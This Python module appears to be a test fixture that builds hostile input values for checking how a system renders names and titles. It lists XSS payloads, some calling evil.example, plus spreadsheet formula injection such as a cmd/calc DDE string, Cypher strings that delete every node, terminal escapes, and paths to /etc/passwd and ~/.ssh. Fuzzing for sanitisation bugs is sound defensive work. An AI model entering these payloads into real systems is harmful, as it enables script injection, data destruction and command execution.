"""Values that someone might put into a name, a title or a sentence so that an output of it does what he wants.

Families of openings, each aimed at a reader (a browser, a terminal, a spreadsheet, Markdown, Cypher, XML, JSON, a file
system), are put together with words as documents have them. ``window.ran`` is what a page looks at afterwards.
"""

from __future__ import annotations

import random

CODE = [
    "<script>window.ran=1</script>", "</script><script>window.ran=2</script>", "<img src=x onerror=window.ran=3>",
    "<svg/onload=alert(1)>", "\" onmouseover=\"window.ran=4", "' autofocus onfocus='window.ran=5", "<iframe src=javascript:alert(1)>",
    "<a href='javascript:window.ran=6'>甲</a>", "<base href=//evil.example/>", "<style>@import 'http://evil.example/x'</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>", "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "</title><script>window.ran=7</script>", "</textarea><script>window.ran=8</script>", "<!--<script>", "--><script>window.ran=9</script>",
    "]]><script>window.ran=10</script>", "<form action=http://evil.example><input name=a>", "<object data=x>", "<details open ontoggle=alert(2)>",
    "javascript:window.ran=11", "data:text/html,<script>window.ran=12</script>", "vbscript:msgbox(1)", "{{7*7}}", "${window.ran=13}",
    "{% raw %}", "__proto__", "constructor", "toString", "hasOwnProperty",
]  # fmt: skip
ENTITIES = ["&lt;script&gt;", "&#60;script&#62;window.ran=14&#60;/script&#62;", "&quot;&apos;", "&#x202e;", "&#0;", "&amp;amp;", "&nbsp", "%3Cscript%3E", "\\u003cscript\\u003e", "\\x3cscript\\x3e"]
FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|'/C calc'!A0", "=HYPERLINK(\"http://evil.example\",\"甲\")", "=WEBSERVICE(\"http://evil.example\")",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u3000=1+1", "\u00a0@SUM(1)", "\ufeff=1+1", "=\"a\"\"b\"", "-甲", "=\n1",
    ";=1+1", ",=1+1", "\"=1+1", "\",=1+1,\"",
]  # fmt: skip
MARKDOWN = [
    "[甲](javascript:alert(1))", "![甲](http://evil.example/a.png)", "[甲]: http://evil.example", "[甲][1]", "<http://evil.example>",
    "`code`", "```\ncode\n```", "*甲*", "**甲**", "_甲_", "~~甲~~", "# 甲", "| 甲 | 乙 |", "|---|---|", "\\|甲", "甲|乙", "> 甲", "1. 甲", "---",
    "[甲](<javascript:alert(1)>)", "![](data:image/svg+xml,<svg>)", "<b>甲</b>", "&lt;b&gt;", "\\[甲](x)", "\\\\[甲](x)", "[^1]", "- [ ] 甲",
]  # fmt: skip
CYPHER = [
    "'}) DETACH DELETE n //", "'; MATCH (n) DETACH DELETE n; //", "` DETACH DELETE n //", "\\'}) RETURN 1 //", "\\\\' OR 1=1 //", "\"}) RETURN 1",
    "/* */", "// 甲", "$param", "\\u0027}) DELETE n //", "\\u005C'", "甲`乙", "``", "\\", "\\\\", "'", "''", "\"",
]  # fmt: skip
CONTROLS = [
    "\x1b[2J", "\x1b]0;owned\x07", "\x1b[31m", "\x9b31m", "\x9d0;owned\x9c", "\x90q\x9c", "\x07", "\x08\x08", "\x00", "\x7f", "\r", "\x0b", "\x0c", "\x85", "\x1c",
    "\x1f", "\x1e", "\x05", "\x0e", "\n", "\r\n", "\t", "\u2028", "\u2029", "\u202eabc", "\u202d", "\u2066甲\u2069", "\u2067", "\u200e", "\u200f", "\u061c", "\u200b",
    "\ufeff", "\ufffe", "\uffff", "\U000e0041", "\u0300" * 40, "\ufdd0", "\U0010ffff", "\u00ad", "\u2060",
]  # fmt: skip
PATHS = ["../../etc/passwd", "/etc/passwd", "C:\\CON", "file:///etc/passwd", "//evil.example/x", "~/.ssh", "a\x00.txt", "-o", "--help", ".", "..", "#", "?", "%00", "a/b#c?d"]
LONG = [sign * 3_000 for sign in "甲a<[='《\u202e"]
SURROGATES = ["\ud800", "\udfff甲", "\udce9"]
"""They stand in no graph, which is UTF-8: what brings one is a file name, JSON, a correction."""

_FAMILIES = [CODE, ENTITIES, FORMULAS, MARKDOWN, CYPHER, CONTROLS, PATHS]
_WORDS = ["一网通办", "街长负责制", "“一窗受理”", "遂宁市", "2019年", "改革", "试点", "方案（试行）", "Reform", "𠮷野", "😀"]


def hostile_values(count: int, seed: int = 1) -> list[str]:
    """``count`` different values: each opening by itself first, as a whole value, then mixed with words and others.

    No two are the same once what prints nothing and blanks at the ends are left out: names in a graph are told apart so.
    """
    dice = random.Random(seed)
    values: dict[str, str] = {}
    alone = [value for family in [*_FAMILIES, LONG] for value in family]
    dice.shuffle(alone)
    for value in alone:
        if len(values) < count:
            values.setdefault(value, value)
    while len(values) < count:
        pieces = [dice.choice(dice.choice(_FAMILIES)) for _ in range(dice.randint(1, 3))]
        pieces.insert(dice.randrange(len(pieces) + 1), dice.choice(_WORDS))
        values.setdefault("".join(pieces), "")
    return list(values)
